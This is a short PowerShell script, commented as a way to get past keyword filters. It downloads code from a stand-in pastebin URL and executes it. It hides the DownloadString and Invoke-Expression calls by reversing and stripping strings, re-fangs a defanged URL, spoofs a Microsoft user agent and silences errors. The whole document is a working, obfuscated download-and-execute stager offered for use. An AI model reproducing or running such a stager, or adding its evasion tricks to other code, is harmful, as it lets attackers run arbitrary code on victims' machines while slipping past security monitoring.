# string tricks to get past simple keyword filters
$ErrorActionPreference = 'SilentlyContinue'
$wc = New-Object Net.WebClient
$wc.Headers.Add('User-Agent', 'Microsoft-CryptoAPI/10.0')
$r = 'gnirtSdaolnwoD'
$m = -join $r[-1..-($r.Length)]
$u = 'hxxps://pastebin.example.com/raw/Qx7h2' -replace 'hxxp', 'http'
$t = $wc.$m($u)
$c = 'Inv#oke-Exp#ression' -replace '#', ''
& $c $t
